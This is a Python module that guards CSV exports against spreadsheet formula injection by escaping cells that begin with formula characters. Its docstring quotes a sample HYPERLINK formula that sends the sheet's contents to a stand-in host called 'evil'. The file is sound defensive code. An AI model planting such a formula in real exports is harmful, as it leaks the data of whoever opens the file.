"""CSV cells that a spreadsheet opens as data, never as a formula (pure: no Django; the caller
gives the file handle).

Excel, LibreOffice and Google Sheets run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or
a tab or carriage return before one) as a formula: a model or candidate name such as
``=HYPERLINK("http://evil/?"&A1, "details")`` in a downloaded report would send the sheet's
contents away when clicked. Such a string gets a leading apostrophe, which spreadsheets take as
"text" and do not show; numbers, and every other string, are written as they are.

Every CSV Shiftlab writes (pages, API, commands, report and run exports) goes through
``spreadsheet_writer``. The guard is reversible: a string that already starts with an apostrophe
followed by a formula character or another apostrophe gets one more, so ``spreadsheet_value``
(what the dataset importer applies to CSV cells) gives back exactly the text that was written.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import IO, Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")  # and full-width =+-@
GUARD = "'"


def _guarded(value: str) -> bool:
    """Whether ``value`` reads as a guarded cell: an apostrophe before a formula start or another apostrophe."""
    return value.startswith(GUARD) and value[1:].startswith((*FORMULA_STARTS, GUARD))


def spreadsheet_cell(value: Any) -> Any:
    """``value`` as a CSV cell that no spreadsheet runs as a formula."""
    if isinstance(value, str) and (value.startswith(FORMULA_STARTS) or _guarded(value)):
        return GUARD + value
    return value


def spreadsheet_row(values: Iterable[Any]) -> list[Any]:
    """``spreadsheet_cell`` of each value: a row for ``csv.writer.writerow``."""
    return [spreadsheet_cell(value) for value in values]


def spreadsheet_value(cell: str) -> str:
    """The text a guarded cell was written from (the inverse of ``spreadsheet_cell`` on strings)."""
    return cell[1:] if _guarded(cell) else cell


class SpreadsheetWriter:
    """A ``csv.writer`` whose every cell goes through ``spreadsheet_cell``."""

    def __init__(self, handle: IO[str], **fmtparams: Any) -> None:
        self._writer = csv.writer(handle, **fmtparams)

    def writerow(self, values: Iterable[Any]) -> Any:
        return self._writer.writerow(spreadsheet_row(values))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for values in rows:
            self.writerow(values)


def spreadsheet_writer(handle: IO[str], **fmtparams: Any) -> SpreadsheetWriter:
    """The one CSV writer of every export: ``csv.writer(handle, **fmtparams)`` with the formula guard."""
    return SpreadsheetWriter(handle, **fmtparams)
